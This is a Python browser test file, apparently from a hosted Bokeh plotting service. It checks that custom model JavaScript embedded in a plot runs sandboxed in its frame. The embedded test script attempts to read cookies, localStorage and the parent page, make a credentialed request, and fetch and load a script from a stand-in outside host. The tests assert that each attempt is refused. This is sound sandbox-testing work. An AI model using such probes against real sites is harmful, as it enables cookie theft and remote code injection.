"""Code of custom models: files of one plot, which run under the policy of its frame and get nothing."""

from collections.abc import Iterator

import pytest
import requests
from bokeh.core.properties import String
from bokeh.models import LayoutDOM
from bokeh.util.compiler import JavaScript
from playwright.sync_api import Browser

from bokeh_cloud.plot import Plot
from tests.browser.chromium import Tab, frame_of, wait_ready
from tests.browser.town import Town, browsing

NOSY = """
const {LayoutDOM, LayoutDOMView} = require("models/layouts/layout_dom")

const tried = async (act) => {
  try { return String(await act()) } catch (error) { return `refused: ${error.name}` }
}
window.report = Promise.all([
  tried(() => document.cookie || "none"),
  tried(() => localStorage.length),
  tried(() => parent.document.title),
  tried(() => fetch("https://example.invalid/")),
  tried(() => fetch("/ada/plots", {credentials: "include"}).then((answer) => answer.status)),
  new Promise((resolve) => {
    const script = document.createElement("script")
    script.src = "https://example.invalid/x.js"
    script.onload = () => resolve("loaded")
    script.onerror = () => resolve("refused")
    document.head.append(script)
  }),
])

class NosyView extends LayoutDOMView {
  get child_models() { return [] }
}
class Nosy extends LayoutDOM {
  static __name__ = "Nosy"

  static {
    this.prototype.default_view = NosyView
    this.define(({Str}) => ({words: [Str, ""]}))
  }
}
exports.Nosy = Nosy
"""


class Nosy(LayoutDOM):
    """A box whose code looks around."""

    __implementation__ = JavaScript(NOSY)

    words = String(default="")


class Compiling(Nosy):
    """A box whose code compiles code."""

    __implementation__ = JavaScript(NOSY.replace("Nosy", "Compiling") + "\nnew Function('return 1')()\n")


@pytest.fixture(scope="module")
def plot(town: Town) -> Plot:
    box = Nosy()
    box.update(width=100, height=100)
    return town.server.publish(box, "nosy")


@pytest.fixture(scope="module")
def script(town: Town, plot: Plot) -> str:
    """The address of the code, as the frame has it."""
    frame = town.cloud.request("GET", f"/plots/{plot.id}/embed", town.key).text
    [address] = {part for part in frame.split('"') if "/extensions/" in part}
    return str(address)


@pytest.fixture
def tab(browser: Browser, town: Town) -> Iterator[Tab]:
    """A tab of the owner, who has most to lose."""
    with browsing(browser) as tab:
        town.sign_in(tab.page.context)
        yield tab


def test_the_code_runs_and_gets_nothing(tab: Tab, plot: Plot) -> None:
    tab.page.goto(plot.url)
    frame = frame_of(tab.page)
    wait_ready(frame)
    cookie, *others = frame.evaluate("window.report")
    assert cookie in {"none", "refused: SecurityError"}
    storage, around, elsewhere, plots, script = others
    assert storage == around == "refused: SecurityError"
    assert elsewhere == "refused: TypeError"
    assert plots in {"401", "403", "refused: TypeError"}
    assert script == "refused"
    assert tab.page.get_by_text("contains code").is_visible()


def test_eval_is_allowed_where_the_code_compiles_code(town: Town, plot: Plot) -> None:
    """What Bokeh makes of a model's file is a script like any other."""
    compiling = Compiling()
    compiling.update(width=100, height=100)
    other = town.server.publish(compiling, "compiling")
    policies = [
        town.cloud.request("GET", f"/plots/{one.id}/embed", town.key).headers["Content-Security-Policy"]
        for one in (plot, other)
    ]
    assert ["'unsafe-eval'" in policy for policy in policies] == [False, True]


def test_the_code_is_a_file_of_this_plot(town: Town, plot: Plot, script: str) -> None:
    answer = requests.get(town.url + script, timeout=30)
    assert answer.headers["Content-Type"].startswith("text/javascript")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "immutable" in answer.headers["Cache-Control"]
    other = script.replace(plot.id, town.plots["sine"].id)
    assert requests.get(town.url + other, timeout=30).status_code == 404


def test_another_plots_frame_does_not_have_it(tab: Tab, town: Town, script: str) -> None:
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.page.goto(town.plots["sine"].url)
    wait_ready(frame_of(tab.page))
    assert not [url for url in asked if "/extensions/" in url]
    assert frame_of(tab.page).evaluate("typeof window.report") == "undefined"
